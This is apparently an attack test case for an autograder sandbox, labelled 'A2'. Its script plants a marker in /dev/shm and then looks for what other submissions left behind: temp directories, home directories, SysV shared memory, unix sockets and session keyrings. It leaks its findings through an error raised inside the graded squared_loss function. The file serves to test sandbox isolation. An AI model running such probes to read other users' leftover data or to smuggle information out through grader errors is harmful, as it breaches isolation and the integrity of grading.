# attack: A2: looks for what other submissions left: /tmp, /dev/shm, homes, shared memory, unix sockets, keyrings
# earns: linreg
# %%
import ctypes, os, sys

mine = {os.environ["HOME"]}
open("/dev/shm/left_for_the_next", "w").write("answers")
seen = []
for place in (
    "/tmp",
    "/dev/shm",
    "/var/tmp",
    "/run",
    "/run/user",
    "/home",
    "/dev/mqueue",
    "/var/spool",
    os.path.dirname(os.environ["HOME"]),
    os.environ["HOME"],
):
    try:
        for n in os.listdir(place):
            p = os.path.join(place, n)
            if (
                p not in mine
                and not any(tree.startswith(p) for tree in (sys.prefix, sys.base_prefix, np.__file__))
                and not n.startswith("._")
                and n not in ("left_for_the_next", ".ipython", "student", ".cache", ".config", ".matplotlib")
            ):
                seen.append(p)
    except OSError:
        pass
libc = ctypes.CDLL(None, use_errno=True)
seen += [f"sysv segment {i}" for i in range(64) if libc.shmat(i, None, 4096) not in (-1, 0xFFFFFFFF)]
try:
    seen += [l.strip() for l in open("/proc/net/unix").readlines()[1:] if "@" in l or "/" in l.split()[-1]]
except OSError:
    pass
if libc.syscall(250, 6, -3, 0, 0, 0) >= 0:
    seen.append("a session keyring")
found = f"LEAK {seen[:6]}" if seen else "nobody was here"


# %% honest: linreg
# %%
def squared_loss(y_hat, y):
    raise ValueError(found)
